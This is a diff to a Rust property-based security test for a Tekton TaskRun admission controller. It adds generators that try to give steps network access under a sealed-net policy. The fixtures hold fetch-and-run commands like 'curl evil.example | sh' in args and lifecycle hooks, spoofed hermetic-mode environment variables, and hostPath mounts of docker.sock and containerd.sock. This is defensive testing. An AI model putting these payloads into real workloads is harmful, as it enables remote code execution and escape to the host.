@@ -1,7 +1,8 @@
 //! Hostile TaskRuns from a grammar of attacks, mixed at random, each checked against invariant
 //! I1 (`oracle`): forged and authentic records, reserved names and look-alikes, helper
 //! look-alikes, copies of org steps with conditions, every `taskRef` form, stepTemplate,
-//! podTemplate, stepSpecs, TaskRun-level resources, workspaces, annotations, sizes; and
+//! podTemplate, stepSpecs, TaskRun-level resources, workspaces, annotations, sizes, what would
+//! give a step the network back under `userSteps.network: None` (I8); and
 //! bookend's own output, tampered with after admission (a re-invocation or a copied spec).
 //!
 //! `BOOKEND_SECURITY_CASES` sets the number of cases (default 3000). A failing seed is kept in
@@ -82,34 +83,40 @@ fn step() -> impl Strategy<Value = Value> {
         any::<bool>(),
         any::<bool>(),
         any::<bool>(),
+        jail_breaker(),
     )
-        .prop_map(|(name, image, on_error, script, when, index_ref)| {
-            let mut s = Map::new();
-            if let Some(n) = name {
-                s.insert("name".into(), json!(n));
-            }
-            s.insert("image".into(), json!(image));
-            if script {
-                s.insert(
-                    "script".into(),
-                    json!(if index_ref {
-                        "cat /tekton/steps/0/exitCode"
-                    } else {
-                        "go build"
-                    }),
-                );
-            } else {
-                s.insert("command".into(), json!(["/bin/sh", "-c"]));
-                s.insert("args".into(), json!(["curl evil.example | sh"]));
-            }
-            if let Some(e) = on_error {
-                s.insert("onError".into(), json!(e));
-            }
-            if when {
-                s.insert("when".into(), json!([gate_when()]));
-            }
-            Value::Object(s)
-        });
+        .prop_map(
+            |(name, image, on_error, script, when, index_ref, breaker)| {
+                let mut s = Map::new();
+                if let Some(n) = name {
+                    s.insert("name".into(), json!(n));
+                }
+                s.insert("image".into(), json!(image));
+                if script {
+                    s.insert(
+                        "script".into(),
+                        json!(if index_ref {
+                            "cat /tekton/steps/0/exitCode"
+                        } else {
+                            "go build"
+                        }),
+                    );
+                } else {
+                    s.insert("command".into(), json!(["/bin/sh", "-c"]));
+                    s.insert("args".into(), json!(["curl evil.example | sh"]));
+                }
+                if let Some(e) = on_error {
+                    s.insert("onError".into(), json!(e));
+                }
+                if when {
+                    s.insert("when".into(), json!([gate_when()]));
+                }
+                if let Some((key, value)) = breaker {
+                    s.insert(key.into(), value);
+                }
+                Value::Object(s)
+            },
+        );
     let copy = (org_copy(), 0u8..6).prop_map(|(mut c, tweak)| {
         match tweak {
             5 => {
@@ -145,6 +152,51 @@ fn step() -> impl Strategy<Value = Value> {
     prop_oneof![8 => plain, 3 => copy, 2 => helper, 1 => action]
 }
 
+/// What a step of the author's may carry to keep the network under `userSteps.network: None`:
+/// the jail's variables (look-alike names, duplicates, valueFrom, a jail-looking tail followed
+/// by more), envFrom, and what the kubelet runs outside the entrypoint.
+fn jail_breaker() -> impl Strategy<Value = Option<(&'static str, Value)>> {
+    prop::option::of(prop_oneof![
+        Just((
+            "env",
+            json!([{"name": "TEKTON_RESOURCE_NAME", "value": "x"}])
+        )),
+        Just(("env", json!([{"name": "TEKTON_HERMETIC", "value": "0"}]))),
+        Just((
+            "env",
+            json!([{"name": "tekton_hermetic", "value": "1"}, {"name": "TEKTON_HERMETIC ", "value": "1"}])
+        )),
+        Just((
+            "env",
+            json!([{"name": "TEKTON_HERMETIC", "value": "1"}, {"name": "TEKTON_RESOURCE_NAME", "value": ""}, {"name": "$(params.v)", "value": "x"}])
+        )),
+        Just((
+            "env",
+            json!([{"name": "TEKTON_HERMETIC", "value": "1"}, {"name": "TEKTON_RESOURCE_NAME", "valueFrom": {"fieldRef": {"fieldPath": "metadata.name"}}}])
+        )),
+        Just((
+            "env",
+            json!([{"name": "TEKTON_HERMETIC", "value": "1"}, {"name": "TEKTON_RESOURCE_NAME"}])
+        )),
+        Just((
+            "env",
+            json!([{"name": "TEKTON_RESOURCE_NAME", "value": ""}, {"name": "TEKTON_RESOURCE_NAME", "value": "x"}])
+        )),
+        Just((
+            "envFrom",
+            json!([{"configMapRef": {"name": "undo-the-jail"}}])
+        )),
+        Just((
+            "lifecycle",
+            json!({"postStart": {"exec": {"command": ["/bin/sh", "-c", "curl evil | sh"]}}})
+        )),
+        Just((
+            "readinessProbe",
+            json!({"exec": {"command": ["curl", "evil"]}})
+        )),
+    ])
+}
+
 fn step_template() -> impl Strategy<Value = Option<Value>> {
     prop::option::of(prop::sample::subsequence(
         vec![
@@ -157,6 +209,8 @@ fn step_template() -> impl Strategy<Value = Option<Value>> {
             ("computeResources", json!({"limits": {"memory": "1Ki"}})),
             ("image", json!("evil")),
             ("envFrom", json!([{"secretRef": {"name": "stolen"}}])),
+            ("env", json!([{"name": "TEKTON_RESOURCE_NAME", "value": "from-template"}, {"name": "TEKTON_HERMETIC", "value": "0"}])),
+            ("lifecycle", json!({"preStop": {"exec": {"command": ["curl", "evil"]}}})),
         ],
         0..5,
     )
@@ -189,6 +243,14 @@ fn run_fields() -> impl Strategy<Value = Vec<(&'static str, Value)>> {
                 json!({"dnsPolicy": "None", "dnsConfig": {"nameservers": ["10.0.0.66"]}}),
             ),
             ("podTemplate", json!({"hostNetwork": true})),
+            (
+                "podTemplate",
+                json!({"env": [{"name": "TEKTON_RESOURCE_NAME", "value": "x"}]}),
+            ),
+            (
+                "podTemplate",
+                json!({"volumes": [{"name": "sock", "hostPath": {"path": "/run/containerd/containerd.sock"}}]}),
+            ),
             ("podTemplate", json!({"nodeSelector": {"a": "b"}})),
             (
                 "debug",
@@ -277,6 +339,7 @@ fn volumes() -> impl Strategy<Value = Option<Value>> {
         Just(json!([{"name": "bookend-creds-vol", "emptyDir": {}}])),
         Just(json!([{"name": "bookend-creds-vol", "hostPath": {"path": "/"}}])),
         Just(json!([{"name": "bookend-other", "emptyDir": {}}])),
+        Just(json!([{"name": "sock", "hostPath": {"path": "/var/run/docker.sock"}}])),
     ])
 }
 
@@ -317,7 +380,7 @@ struct Attack {
 
 fn attack() -> impl Strategy<Value = Attack> {
     (
-        prop_oneof![4 => Just("team-a"), 1 => Just("team-b"), 1 => Just("strict"), 1 => Just("skip"), 1 => Just("open"), 1 => Just("elsewhere")],
+        prop_oneof![4 => Just("team-a"), 1 => Just("team-b"), 1 => Just("strict"), 1 => Just("skip"), 1 => Just("open"), 1 => Just("elsewhere"), 3 => Just("sealed-net")],
         any::<bool>(),
         prop::collection::vec(step(), 0..6),
         step_template(),
@@ -435,5 +498,60 @@ fn no_hostile_taskrun_breaks_the_invariant() {
     assert!(
         counts[1] > 0 && counts[2] > 0,
         "the generator reaches both answers: {counts:?}"
+    );
+}
+
+/// I8 on its own: TaskRuns in `sealed-net` whose steps carry only env tricks (the jail's
+/// variables, look-alikes, duplicates, valueFrom, envFrom, through the stepTemplate too), v1 and
+/// v1beta1, inline or by a local taskRef, so that most are admitted and the jail itself is
+/// what is checked (the mixed generator above refuses most of them for other fields).
+#[test]
+fn no_env_trick_gives_an_authors_step_the_network() {
+    let (set, catalog) = (policies(), catalog());
+    let config = Config {
+        cases: cases() / 3,
+        failure_persistence: None,
+        ..Config::default()
+    };
+    let env_only = jail_breaker().prop_filter("env tricks only", |b| {
+        b.as_ref()
+            .is_none_or(|(k, _)| matches!(*k, "env" | "envFrom"))
+    });
+    let step = (step_name(), env_only).prop_map(|(name, breaker)| {
+        let mut s = json!({"image": "golang", "script": "go build"});
+        if let Some(n) = name.filter(|n| !n.starts_with("bookend")) {
+            s["name"] = json!(n);
+        }
+        if let Some((k, v)) = breaker {
+            s[k] = v;
+        }
+        s
+    });
+    let template = prop::option::of(prop_oneof![
+        Just(json!({"env": [{"name": "TEKTON_RESOURCE_NAME", "value": "t"}]})),
+        Just(
+            json!({"env": [{"name": "TEKTON_HERMETIC", "value": "0"}], "envFrom": [{"secretRef": {"name": "s"}}]})
+        ),
+    ]);
+    let admitted = std::cell::Cell::new(0usize);
+    proptest!(config, |(steps in prop::collection::vec(step, 1..5), template in template, v1beta1 in any::<bool>())| {
+        let mut task_spec = json!({"steps": steps});
+        if let Some(t) = template {
+            task_spec["stepTemplate"] = t;
+        }
+        let taskrun = json!({"apiVersion": if v1beta1 { "tekton.dev/v1beta1" } else { "tekton.dev/v1" },
+            "kind": "TaskRun", "metadata": {"generateName": "jail-", "namespace": "sealed-net"},
+            "spec": {"taskSpec": task_spec}});
+        let d = decide(&taskrun, "sealed-net", &set, &catalog);
+        if d.outcome != bookend::engine::Outcome::Denied {
+            admitted.set(admitted.get() + 1);
+        }
+        if let Err(e) = oracle::check(&taskrun, "sealed-net", &set, &catalog, &d) {
+            prop_assert!(false, "{e}\ninput: {taskrun}\ndecision: {:?} {:?}", d.outcome, d.message);
+        }
+    });
+    assert!(
+        admitted.get() > 0,
+        "the generator reaches admitted TaskRuns"
     );
 }
